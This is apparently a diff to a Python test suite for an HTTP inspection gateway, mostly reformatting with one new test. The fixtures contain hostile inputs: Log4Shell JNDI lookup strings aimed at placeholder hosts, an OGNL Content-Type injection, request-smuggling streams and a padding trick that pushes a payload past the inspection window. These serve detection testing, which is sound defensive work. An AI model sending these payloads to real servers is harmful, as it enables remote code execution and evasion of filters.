@@ -23,7 +23,9 @@ def records(stream: bytes, step: int | None = None) -> list[AppRecord]:
     """The records of `stream` fed whole or `step` bytes at a time, recovering after errors
     as the engine does."""
     adapter = HttpAdapter()
-    pieces = [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
+    pieces = (
+        [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
+    )
     out: list[AppRecord] = []
     for piece in pieces:
         out += adapter.feed(piece)
@@ -45,8 +47,12 @@ def values(recs: list[AppRecord], name: str) -> bytes:
 
 def post(target: bytes, headers: bytes, body: bytes) -> bytes:
     return (
-        b"POST " + target + b" HTTP/1.1\r\nHost: a\r\n" + headers
-        + b"Content-Length: %d\r\n\r\n" % len(body) + body
+        b"POST "
+        + target
+        + b" HTTP/1.1\r\nHost: a\r\n"
+        + headers
+        + b"Content-Length: %d\r\n\r\n" % len(body)
+        + body
     )
 
 
@@ -102,7 +108,9 @@ def test_te_cl_smuggling_refuses_the_body_and_finds_the_hidden_request(
     handed on, its body refused, and decoding resumes at the hidden request."""
     stream = smuggling(te)
     dec = HttpRequestDecoder()
-    pieces = [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
+    pieces = (
+        [stream] if step is None else [stream[i : i + step] for i in range(0, len(stream), step)]
+    )
     uris: list[str] = []
     errors = 0
     for piece in pieces:
@@ -225,9 +233,13 @@ def test_folded_part_headers_are_unfolded() -> None:
 
 def test_request_fields_carry_the_parsers_readings() -> None:
     xml = post(b"/x", b"Content-Type: application/xml\r\n", b"<a>&#36;{jndi:ldap://h/a}</a>")
-    ognl = b"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(\\u0040java.lang.X)}\r\n\r\n"
+    ognl = (
+        b"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(\\u0040java.lang.X)}"
+        b"\r\n\r\n"
+    )
     escaped = post(
-        b"/f", b"Content-Type: application/x-www-form-urlencoded\r\n",
+        b"/f",
+        b"Content-Type: application/x-www-form-urlencoded\r\n",
         b'data={"u":"\\u0024{jndi:ldap://h/b}"}',
     )
     for step in (None, 1):
@@ -242,3 +254,16 @@ def test_ordinary_requests_get_no_reading_variants() -> None:
     for rec in records(plain):
         fields.update(rec.fields)
     assert not any("#" in key for key in fields)
+
+
+def test_an_h2c_body_is_judged_window_by_window_too() -> None:
+    from gateway.testing.h2c import h2c_stream
+
+    body = b"pad=" + b"A" * (3 * MAX_BODY_INSPECT) + b"&q=" + LOOKUP_PCT
+    head = (
+        b"POST /f HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+        b"Content-Length: %d" % len(body)
+    )
+    for upgrade in (False, True):
+        recs = records(h2c_stream([(head, body)], upgrade=upgrade), 5000)
+        assert b"${jndi:ldap://198.18.0.9/a}" in values(recs, "http.lookups"), upgrade
